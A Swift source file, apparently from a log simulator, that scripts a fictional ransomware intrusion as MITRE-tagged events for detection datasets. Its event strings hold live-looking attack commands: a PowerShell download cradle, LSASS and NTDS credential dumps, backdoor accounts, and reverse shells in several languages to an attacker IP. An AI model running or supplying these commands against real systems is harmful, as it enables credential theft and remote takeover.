/// The ransomware scenario: the contract's steps, on the contract's hosts, with the contract's commands.
///
/// The attacker logs on to APP01 over the VPN as `svc_vpn` and, in parallel, a phished user on WS-0042 opens a
/// macro document; from APP01 the operator dumps credentials, moves to FS01, SQL01 and the Linux servers, digs
/// in, blinds the defences, steals the practice database, deletes the recovery options and encrypts FS01's shares.
enum RansomwareScenario {
    static let attacker = "185.220.101.47"
    static let implantUser = "MEDSOFT\\svc_vpn"
    static let adminUser = "MEDSOFT\\adm.schulz"
    static let system = "NT AUTHORITY\\SYSTEM"

    /// The attack's events, times in milliseconds from its first event.
    static func events(estate: Estate, span: Int64, store: TextStore, random: SimulationRandom) -> [AttackEvent] {
        var plan = AttackPlan(estate: estate, span: span, store: store, random: random)
        var context = Context(plan: &plan)
        initialAccess(&plan, &context)
        credentialTheft(&plan, &context)
        lateralMovement(&plan, &context)
        persistence(&plan, &context)
        defenseEvasion(&plan, &context)
        discoveryAndDatabase(&plan, &context)
        exfiltration(&plan, &context)
        impactPrecursors(&plan, &context)
        encryption(&plan, &context)
        return plan.events
    }

    /// Process ids that several steps share (the implant on each host, LSASS).
    struct Context {
        let app: Int
        let workstation: Int
        let dc: Int
        let fileServer: Int
        let sql: Int
        let backup: Int
        let implantApp: Int
        let implantWorkstation: Int
        let implantFileServer: Int
        let implantSQL: Int

        init(plan: inout AttackPlan) {
            app = plan.host("APP01")
            workstation = plan.host("WS-0042")
            dc = plan.host("DC01")
            fileServer = plan.host("FS01")
            sql = plan.host("SQL01")
            backup = plan.host("BKP01")
            implantApp = plan.pid()
            implantWorkstation = plan.pid()
            implantFileServer = plan.pid()
            implantSQL = plan.pid()
        }
    }

    static func initialAccess(_ plan: inout AttackPlan, _ c: inout Context) {
        plan.begin(.initialAccess)
        let vpn = plan.estate.user(named: "svc_vpn") ?? 0
        plan.add(
            "T1133", .logon(host: c.app, user: vpn, logonType: 10, address: attacker, workstation: "DESKTOP-7QX2M1B"))
        plan.pause()
        let workstation = plan.estate.hosts[c.workstation]
        let victim = plan.estate.users[workstation.user ?? 0].name
        let script = "$s='http://\(attacker)/a';IEX (New-Object Net.WebClient).DownloadString($s)"
        let word = Images.officeRoot + "WINWORD.EXE"
        plan.add(
            "T1566.001",
            plan.process(
                host: c.workstation, Images.powershell, "powershell.exe -nop -w hidden -enc " + AttackPlan.encoded(script),
                parent: Images.winword,
                "\"\(word)\" /n \"C:\\Users\\\(victim)\\Downloads\\Rechnung_2026-11_Praxisbedarf.docm\" /o \"\"",
                user: "MEDSOFT\\" + victim, directory: "C:\\Users\\\(victim)\\Documents\\", integrity: "Medium"))
    }

    static func credentialTheft(_ plan: inout AttackPlan, _ c: inout Context) {
        plan.begin(.credentialTheft)
        let lsass = plan.estate.hosts[c.app].lsassPid
        plan.add(
            "T1003.001",
            plan.process(
                host: c.app, Images.rundll32,
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump \(lsass) C:\\Windows\\Temp\\lsass.dmp full",
                parent: Images.implant, "C:\\Users\\Public\\svchost.exe", parentID: c.implantApp, user: implantUser))
        plan.wait(2_000, 9_000)
        plan.add(
            "T1003.001",
            .processAccess(
                host: c.app, source: Images.implant, sourceID: c.implantApp, sourceUser: implantUser, target: Images.lsass,
                targetID: lsass))
        plan.pause()
        plan.add(
            "T1003.002",
            plan.process(
                host: c.app, Images.reg, "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save", parent: Images.implant,
                "C:\\Users\\Public\\svchost.exe", parentID: c.implantApp, user: implantUser))
        plan.pause()
        plan.add(
            "T1003.003",
            plan.process(
                host: c.dc, Images.ntdsutil, "ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\ifm\" q q",
                parent: Images.cmd, "C:\\Windows\\system32\\cmd.exe", user: adminUser))
        plan.pause()
        // Kerberoasting: RC4 tickets for 15 service accounts from APP01 within about 75 s.
        let appAddress = plan.estate.hosts[c.app].address
        let services = EstateNames.serviceAccounts.filter { $0 != "svc_vpn" }.prefix(15)
        for name in services {
            let rid = plan.estate.users[plan.estate.user(named: name) ?? 0].rid
            plan.add("T1558.003", .ticket(host: c.dc, userName: "svc_vpn", serviceName: name, serviceRid: rid, address: appAddress))
            plan.wait(3_000, 7_000)
        }
        plan.pause()
        // Password spraying: 25 accounts, one password, from APP01 within about 2.5 minutes.
        for name in sprayTargets(plan.estate) {
            plan.add("T1110.003", .failedLogon(host: c.dc, userName: name, address: appAddress, workstation: "APP01"))
            plan.wait(4_000, 8_000)
        }
    }

    /// 25 different account names: the sprayer's list of likely names, then the estate's users it harvested.
    static func sprayTargets(_ estate: Estate) -> [String] {
        var names = ["administrator", "admin", "empfang", "labor", "praxis", "backup", "scanner", "test"]
        let stride = max(estate.workstations.count / 17, 1)
        var index = 0
        while names.count < 25 && index < estate.workstations.count {
            if let user = estate.hosts[estate.workstations[index]].user, !names.contains(estate.users[user].name) {
                names.append(estate.users[user].name)
            }
            index += stride
        }
        var extra = 0
        while names.count < 25 {
            names.append(EstateNames.first[extra % EstateNames.first.count] + ".m")
            extra += 1
        }
        return names
    }

    static func lateralMovement(_ plan: inout AttackPlan, _ c: inout Context) {
        plan.begin(.lateralMovement)
        for host in [c.fileServer, c.sql] {
            plan.add(
                "T1021.002",
                .plain(
                    .serviceControlManager, 7045, host: host,
                    fields: [
                        ("ServiceName", "PSEXESVC"), ("ImagePath", "%SystemRoot%\\PSEXESVC.exe"),
                        ("ServiceType", "user mode service"), ("StartType", "demand start"), ("AccountName", "LocalSystem"),
                    ], userData: nil))
            plan.pause()
        }
        plan.add(
            "T1047",
            plan.process(
                host: c.sql, Images.cmd, "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1732451893.17 2>&1",
                parent: Images.wmiPrvSE, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                parentID: plan.estate.hosts[c.sql].wmiPid, user: adminUser))
        plan.pause()
        plan.add(
            "T1021.006",
            plan.process(
                host: c.fileServer, Images.powershell,
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"Get-ChildItem D:\\Shares -Recurse | Measure-Object -Property Length -Sum\"",
                parent: Images.wsmprovhost, "C:\\Windows\\system32\\wsmprovhost.exe -Embedding", user: adminUser))
        plan.pause()
        let tcpClient =
            "powershell.exe -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('\(attacker)',4444);"
            + "$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};"
            + "while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
            + "$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);"
            + "$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()\""
        plan.add(
            "T1059.001",
            plan.process(
                host: c.app, Images.powershell, tcpClient, parent: Images.implant, "C:\\Users\\Public\\svchost.exe",
                parentID: c.implantApp, user: implantUser))
        plan.pause()
        plan.add(
            "T1059.003",
            plan.process(
                host: c.sql, Images.ncat, "ncat.exe \(attacker) 4444 -e cmd.exe", parent: Images.cmd,
                "C:\\Windows\\system32\\cmd.exe", user: system, directory: "C:\\Users\\Public\\"))
        plan.pause()
        let web = plan.host("lx-web01")
        let appLinux = plan.host("lx-app01")
        let db = plan.host("lx-db01")
        let shells: [(Int, String, String, String, String, String)] = [
            (web, "/usr/bin/bash", "bash -i >& /dev/tcp/\(attacker)/4444 0>&1", "/usr/sbin/nginx", "www-data", "T1059.004"),
            (
                appLinux, "/usr/bin/python3",
                "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"\(attacker)\",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);'",
                "/usr/bin/bash", "deploy", "T1059.006"
            ),
            (db, "/usr/bin/socat", "socat exec:'bash -li',pty,stderr tcp:\(attacker):4444", "/usr/bin/bash", "postgres", "T1059.004"),
            (
                appLinux, "/usr/bin/perl",
                "perl -e 'use Socket;$i=\"\(attacker)\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
                "/usr/bin/bash", "deploy", "T1059.006"
            ),
        ]
        for (host, image, commandLine, parent, user, technique) in shells {
            plan.add(
                technique,
                .execve(host: host, image: image, commandLine: commandLine, parent: parent, user: user,
                    processID: plan.random.int(in: 20_000...390_000)))
            plan.pause()
        }
    }

    static func persistence(_ plan: inout AttackPlan, _ c: inout Context) {
        plan.begin(.persistence)
        let fs = c.fileServer
        plan.add(
            "T1136.001",
            plan.process(
                host: fs, Images.net, "net user svc_backup2 P@ssw0rd!2026 /add", parent: Images.cmd,
                "C:\\Windows\\system32\\cmd.exe", user: adminUser))
        plan.wait(100, 600)
        let machine = plan.estate.hosts[fs].machineSid
        let memberSid = "S-1-5-21-\(machine.0)-\(machine.1)-\(machine.2)-1010"
        let domain = plan.estate.domainSid
        let adminSid = "S-1-5-21-\(domain.0)-\(domain.1)-\(domain.2)-\(1100 + plan.estate.workstations.count)"
        var created: [(StaticString, String)] = [("TargetUserName", "svc_backup2"), ("TargetDomainName", "FS01")]
        created.append(("TargetSid", memberSid))
        created.append(("SubjectUserSid", adminSid))
        created += [
            ("SubjectUserName", "adm.schulz"), ("SubjectDomainName", "MEDSOFT"), ("SubjectLogonId", "0x4a2f1c"),
            ("PrivilegeList", "-"), ("SamAccountName", "svc_backup2"), ("DisplayName", "%%1793"),
            ("UserPrincipalName", "-"), ("PrimaryGroupId", "513"), ("NewUacValue", "0x15"),
        ]
        plan.add("T1136.001", .plain(.security, 4720, host: fs, fields: created, userData: nil))
        plan.pause()
        plan.add(
            "T1098",
            plan.process(
                host: fs, Images.net, "net localgroup administrators svc_backup2 /add", parent: Images.cmd,
                "C:\\Windows\\system32\\cmd.exe", user: adminUser))
        plan.wait(100, 600)
        var added: [(StaticString, String)] = [("MemberName", "-")]
        added.append(("MemberSid", memberSid))
        added += [
            ("TargetUserName", "Administrators"), ("TargetDomainName", "Builtin"), ("TargetSid", "S-1-5-32-544"),
            ("SubjectUserName", "adm.schulz"), ("SubjectDomainName", "MEDSOFT"), ("SubjectLogonId", "0x4a2f1c"),
            ("PrivilegeList", "-"),
        ]
        plan.add("T1098", .plain(.security, 4732, host: fs, fields: added, userData: nil))
        plan.pause()
        plan.add(
            "T1543.003",
            .plain(
                .serviceControlManager, 7045, host: c.sql,
                fields: [
                    ("ServiceName", "MicrosoftUpdateHelper"), ("ImagePath", "C:\\Users\\Public\\svchost.exe"),
                    ("ServiceType", "user mode service"), ("StartType", "auto start"), ("AccountName", "LocalSystem"),
                ], userData: nil))
        plan.pause()
        plan.add(
            "T1053.005",
            plan.process(
                host: c.app, Images.schtasks,
                "schtasks /create /tn \"MicrosoftEdgeUpdateTaskCore\" /tr C:\\Users\\Public\\update.exe /sc minute",
                parent: Images.cmd, "C:\\Windows\\system32\\cmd.exe", user: implantUser))
        plan.pause()
        let victim = plan.estate.users[plan.estate.hosts[c.workstation].user ?? 0]
        let sid = plan.estate.domainSid
        plan.add(
            "T1547.001",
            .registrySet(
                host: c.workstation, image: Images.implant, processID: c.implantWorkstation, user: "MEDSOFT\\" + victim.name,
                target: "HKU\\S-1-5-21-\(sid.0)-\(sid.1)-\(sid.2)-\(victim.rid)\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate",
                details: "C:\\Users\\Public\\update.exe"))
        plan.pause()
        wmiSubscription(&plan, c)
        linuxPersistence(&plan)
    }
}
